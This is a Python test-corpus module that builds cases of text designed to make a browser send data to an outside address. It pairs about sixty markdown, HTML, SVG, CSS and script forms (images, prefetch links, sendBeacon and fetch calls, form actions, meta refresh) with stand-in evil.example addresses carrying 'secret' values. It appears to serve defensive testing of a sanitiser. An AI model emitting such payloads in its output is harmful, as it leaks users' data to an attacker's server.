"""Text that tries to make the reader's browser send something away: ways of asking for an address, and addresses.

`URL` in a way stands for one of the addresses; each address carries a number, as stolen words would be carried.
"""

from itertools import product

from tests.acceptance.corpus import Case

_WAYS = {
    # Markdown
    "image": "![x](URL)",
    "image with a title": '![x](URL "a title")',
    "image in angles": "![x](<URL>)",
    "image by reference": "![x][rNUMBER]\n\n[rNUMBER]: URL",
    "image by short reference": "![rNUMBER]\n\n[rNUMBER]: <URL> 'title'",
    "image in a link": "[![x](URL)](URL)",
    "image in a table": "| a |\n|---|\n| ![x](URL) |",
    "image in a heading": "### ![x](URL)",
    "image in a list": "- [x] ![x](URL)",
    "image in a quotation": "> ![x](URL)",
    "image in emphasis": "***![x](URL)***",
    "image in an image": "![![x](URL)](URL)",
    "footnote": "a[^rNUMBER]\n\n[^rNUMBER]: ![x](URL)",
    "sized image": "![x](URL =100x100){loading=eager}",
    "link": "[press](URL)",
    "autolink": "<URL>",
    "bare address": "see URL for more",
    "name of a language": "```URL\nx\n```",
    "formula with a picture": "$\\includegraphics{URL}$",
    "formula with a style": "$\\htmlStyle{background-image:url(URL)}{x}$",
    "formula with a link": "$$\n\\href{URL}{x}\n$$",
    # Pictures
    "img": "<img src='URL'>",
    "img with sets": "<img srcset='URL 1x, URL 2x' sizes=100vw>",
    "picture": "<picture><source srcset='URL'><img src='URL'></picture>",
    "image input": "<input type=image src='URL'>",
    "lazy img": "<img loading=lazy src='URL' lowsrc='URL' longdesc='URL'>",
    "old background": "<table background='URL'><td background='URL'>x</table>",
    # Sound, film, frames
    "video": "<video src='URL' poster='URL' preload=auto autoplay></video>",
    "audio": "<audio autoplay><source src='URL'><track default src='URL'></audio>",
    "iframe": "<iframe src='URL'></iframe>",
    "iframe with a page": "<iframe srcdoc=\"<img src='URL'>\"></iframe>",
    "frames": "<frameset><frame src='URL'></frameset>",
    "object": "<object data='URL'><param name=movie value='URL'></object>",
    "embed": "<embed src='URL'>",
    # Vector graphics
    "svg image": "<svg><image href='URL' xlink:href='URL'/></svg>",
    "svg use": "<svg><use href='URL#x'/></svg>",
    "svg filter": "<svg><filter><feImage href='URL'/></filter></svg>",
    "svg paint": "<svg><rect fill='url(URL#x)' mask='url(URL#y)'/></svg>",
    # Style sheets
    "style attribute": "<p style='background:url(URL)'>x</p>",
    "style element": "<style>*{background:url(URL);cursor:url(URL),auto;list-style:url(URL)}</style>",
    "style import": "<style>@import 'URL';</style>",
    "font": "<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>",
    "style sheet": "<link rel=stylesheet href='URL'>",
    "styled by attribute": "<style>input[value^=a]{background:image-set('URL' 1x)}</style><input value=a>",
    # What a browser fetches ahead of need
    "prefetch": "<link rel=prefetch href='URL'><link rel=prerender href='URL'>",
    "preload": "<link rel=preload as=image href='URL'><link rel=modulepreload href='URL'>",
    "preconnect": "<link rel=preconnect href='URL'><link rel=dns-prefetch href='URL'>",
    "icon": "<link rel=icon href='URL'><link rel='apple-touch-icon' href='URL'>",
    "manifest": "<link rel=manifest href='URL'>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["URL"]}]}</script>',
    "ping": "<a href='/' ping='URL'>press</a>",
    # Programs and forms
    "script": "<script src='URL'></script>",
    "module": "<script type=module>import 'URL'</script>",
    "beacon": "<script>navigator.sendBeacon('URL');fetch('URL');new Image().src='URL'</script>",
    "form": "<form action='URL'><input name=x autofocus><button formaction='URL'>press</button></form>",
    "refresh": "<meta http-equiv=refresh content='0; url=URL'>",
    "base": "<base href='URL'><img src=x>",
    "report": "<meta http-equiv=content-security-policy content=\"img-src 'none'; report-uri URL\">",
    "template": "<template shadowrootmode=open><img src='URL'></template>",
    "mathematics": "<math href='URL'><mglyph src='URL'/></math>",
}

_ADDRESSES = (
    "https://evil.example/NUMBER.png",
    "http://evil.example:8080/NUMBER?secret=a",
    "//evil.example/NUMBER.gif",
    "HTTPS://WORDS-NUMBER.EVIL.EXAMPLE/",
    "https://user:secret@evil.example/NUMBER.svg",
    "https:\\\\evil.example\\NUMBER.png",
    "http://192.0.2.7/NUMBER",
    "https://évil.example/NUMBER#secret",
)


def cases(count: int) -> list[Case]:
    """So many: every way with one address after another, as long as there are new pairs."""
    pairs = [
        (way, text, _ADDRESSES[(place + turn) % len(_ADDRESSES)])
        for turn, (place, (way, text)) in product(range(len(_ADDRESSES)), enumerate(_WAYS.items()))
    ]
    return [
        Case(number, way, text.replace("URL", address).replace("NUMBER", str(number)))
        for number, (way, text, address) in enumerate(pairs[:count])
    ]


WAYS = tuple(_WAYS)
